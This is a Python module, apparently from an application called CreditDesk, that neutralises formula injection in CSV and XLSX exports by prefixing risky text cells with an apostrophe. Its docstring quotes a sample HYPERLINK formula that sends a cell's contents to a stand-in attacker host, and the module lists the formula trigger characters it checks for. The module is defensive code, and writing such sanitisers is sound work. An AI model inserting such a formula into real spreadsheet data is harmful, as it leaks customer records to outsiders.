"""Every CSV and XLSX file CreditDesk writes goes through here (no formula injection).

A spreadsheet runs a cell that starts with = + - @ (or a tab / line break before one) as a
formula: a customer who names their city ``=HYPERLINK("http://evil.example?"&A1;"Click")``
would otherwise get a live link, or a DDE command, into the collection agency's or the print
shop's spreadsheet. Text cells starting with such a character get a leading apostrophe, which
spreadsheets show as text. Numbers are not text: a Decimal, int or float is written as the
number it is (a negative amount stays a negative number), and so is text that is only a number
or a phone number ("-12.50", "1 234,56", "+32 2 123 45 67"): without letters, brackets or
operators after the sign, no function or command can be called.

    writer = csv_writer(buffer, delimiter=";")   # csv.writer that neutralises every row
    append_row(sheet, [name, amount])            # openpyxl worksheet.append, neutralised
"""
from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from datetime import date, datetime, time
from decimal import Decimal
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
# A sign, then digits, spaces, dots and commas only: amounts and phone numbers.
_NUMBER_LIKE = re.compile(r"[+-]?\d[\d .,]*\Z")
_KEPT_TYPES = (bool, int, float, Decimal, date, datetime, time)


def safe_cell(value: Any) -> Any:
    """The value a spreadsheet will show and never run: numbers and dates unchanged, None as
    an empty cell, text starting with a formula character prefixed with an apostrophe."""
    if value is None:
        return ""
    if isinstance(value, _KEPT_TYPES):
        return value
    text = value if isinstance(value, str) else str(value)
    if text[:1] in FORMULA_TRIGGERS and not _NUMBER_LIKE.match(text):
        return "'" + text
    return text


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]


class SafeCsvWriter:
    """csv.writer whose rows go through safe_cell: the only way CreditDesk writes CSV."""

    def __init__(self, stream: Any, **fmtparams: Any):
        self._writer = csv.writer(stream, **fmtparams)

    @property
    def dialect(self) -> Any:
        return self._writer.dialect

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: Any, **fmtparams: Any) -> SafeCsvWriter:
    return SafeCsvWriter(stream, **fmtparams)


def append_row(sheet: Any, row: Iterable[Any]) -> None:
    """openpyxl's worksheet.append, neutralised (openpyxl stores text starting with = as a
    formula: after safe_cell no text does)."""
    sheet.append(safe_row(row))
